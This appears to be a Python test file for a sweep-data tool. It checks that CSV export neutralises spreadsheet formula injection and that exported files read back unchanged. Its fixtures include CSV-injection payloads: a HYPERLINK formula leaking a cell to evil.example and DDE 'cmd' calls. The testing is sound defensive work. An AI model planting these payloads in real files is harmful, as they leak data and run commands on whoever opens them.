"""A sweep opened from a file in the Sweep tab and exported again hands a spreadsheet no live formula (issue 49 #1):
every text cell that starts with = + - @, a tab or a carriage return is written behind a quote (OWASP), numbers
stay numbers (a negative one too), and the exported file opened again shows the text as it was."""
from __future__ import annotations

import csv
import math

import pytest

from crossover_lab.core.config import LaneSpec, ModelSpec, RunConfig, TrainSpec
from crossover_lab.core.files.atomic import FORMULA_STARTS, csv_text
from crossover_lab.core.files.sweeps.files import read_sweep_rows
from crossover_lab.core.files.sweeps.rows import SweepRow, sweep_rows_text

BASE = RunConfig(ModelSpec((8,)), TrainSpec(batch_size=32, samples=1000, data="synthetic"))
LANES = [LaneSpec.parse("cpu"), LaneSpec.parse("cpu1")]
# What a hostile file puts in its text cells (each a token replaced in a file Crossover wrote, as an attacker edits
# one): a link, a command through DDE, a function, a sum behind a minus, a tab and a carriage return.
PLANTED = {"DEVICE": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "RUNID": "=cmd|' /C calc'!A0",
           "REASON": "@SUM(1+1)*cmd|' /C calc'!A0", "FEEDING": "-2+3+cmd|' /C calc'!A0", "BACKEND": "\t=1+1",
           "COUNTER": "\r=1+1", "LANEX": "+cpu2"}


@pytest.fixture
def tab(qtbot, qsettings_tmp, scripted_pool):
    pool = scripted_pool
    from crossover_lab.gui.sweep.tab import SweepTab

    widget = SweepTab(lambda: pool, lambda: list(LANES), lambda: BASE, lambda: False)
    qtbot.addWidget(widget)
    yield widget
    widget.shutdown()


def hostile_sweep_csv() -> str:
    rows = [SweepRow(lane, "DEVICE", w, 1000 * w, 2000 * w, 32, ms, ms * 0.9, ms * 1.1, 50, run_id="RUNID",
                     reason="REASON", feeding="FEEDING", backend="BACKEND", energy_counter="COUNTER")
            for lane, slope in (("cpu", 0.01), ("LANEX", 0.002)) for w, ms in ((8, 1 + slope * 8), (512, 1 + slope * 512),
                                                                              (4096, 1 + slope * 4096))]
    text = sweep_rows_text(rows)
    for token, planted in PLANTED.items():
        quoted = '"' + planted.replace('"', '""') + '"'
        text = text.replace(token, quoted)
    return text


def live_formulas(path) -> list[str]:
    """The cells a spreadsheet would run: text starting with a formula's first character that is not a number."""
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_sweep_opened_and_exported_again_carries_no_live_formula_and_reads_back_as_it_was(tab, tmp_path):
    hostile = tmp_path / "hostile.csv"
    hostile.write_text(hostile_sweep_csv(), encoding="utf-8")
    assert len(live_formulas(hostile)) >= 6 * 6  # the attack: six planted cells in each of six rows
    assert tab.open_csv(str(hostile))
    assert {r.device for r in tab.view.rows} == {PLANTED["DEVICE"]}
    out = tmp_path / "again.csv"
    written = tab.export_csv(str(out))
    assert written and str(out) in written
    for path in written:
        if path.endswith(".csv"):
            assert live_formulas(path) == [], path
    with open(out, newline="", encoding="utf-8") as fh:
        exported = list(csv.DictReader(fh))
    assert {row["device"] for row in exported} == {"'" + PLANTED["DEVICE"]}
    assert {row["lane"] for row in exported} == {"cpu", "'+cpu2"}
    assert all(_number(row["median_ms"]) and _number(row["flops_per_batch"]) for row in exported)  # numbers stay so
    # Opened again, the tab shows the text as the first file had it: the quote is Crossover's, and taken off.
    assert tab.open_csv(str(out))
    back = tab.view.rows
    assert {(r.lane, r.device, r.run_id, r.reason, r.feeding) for r in back} == {
        (lane, PLANTED["DEVICE"], PLANTED["RUNID"], PLANTED["REASON"], PLANTED["FEEDING"])
        for lane in ("cpu", PLANTED["LANEX"])}
    twice = tmp_path / "twice.csv"
    assert tab.export_csv(str(twice))
    assert twice.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")  # a round trip is stable


def test_numbers_stay_numbers_and_every_text_reads_back_as_written(tmp_path):
    """A negative number is a number (a spreadsheet runs no formula in it); text that merely begins with a quote,
    or with several, reads back with them all."""
    from crossover_lab.core.files.atomic import plain_cell

    numbers = [-5, -1.5e-3, "-5", "-1.5e-3", "+3", "-inf", "nan", 0]
    texts = ["=1+1", "'=1+1", "''=1+1", "'-5", "-", "+", "@", "-x", "cpu", "'plain", ""]
    text = csv_text(["a"], [[c] for c in numbers + texts])
    cells = [row[0] for row in csv.reader(text.splitlines()[1:])]
    assert cells[:len(numbers)] == [str(c) for c in numbers]
    assert [plain_cell(c) for c in cells[len(numbers):]] == texts
    assert cells[len(numbers):len(numbers) + 3] == ["'=1+1", "''=1+1", "'''=1+1"]
    assert not any(c.startswith(FORMULA_STARTS) and not _number(c) for c in cells)
    assert math.isnan(float(cells[6]))
